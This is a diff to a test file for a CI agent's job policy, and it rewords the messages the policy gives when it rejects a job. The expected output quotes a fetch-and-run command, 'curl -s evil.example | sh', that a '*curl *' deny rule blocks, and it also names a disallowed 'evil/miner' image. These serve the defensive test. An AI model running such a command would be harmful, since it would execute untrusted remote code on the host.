@@ -26,8 +26,8 @@ describe("policy", () => {
     expect(lines).toHaveLength(3);
     expect(lines[1]).toEndWith(
       [
-        "] 1: this agent's policy refuses the job:",
-        '- the repository "https://github.com/evil/app" is not among those allowed: github.com/acme/*',
+        "] 1: this agent's policy rejects the job:",
+        '- the repository "https://github.com/evil/app" is not allowed (allowed: github.com/acme/*)',
         '- the command "curl -s evil.example | sh" is denied by "*curl *"',
         "Ask #platform.\n",
       ].join("\n"),
@@ -51,7 +51,7 @@ describe("policy", () => {
     expect((await hub.done(refused)).result).toBe("failed");
     const lines = outline(await hub.log(refused));
     expect(lines.slice(1).join("\n")).toContain(
-      '- the image "evil/miner" is not among those allowed: ruby\nAsk #platform.\n',
+      '- the image "evil/miner" is not allowed (allowed: ruby)\nAsk #platform.\n',
     );
     expect(lines).toHaveLength(3);
   });
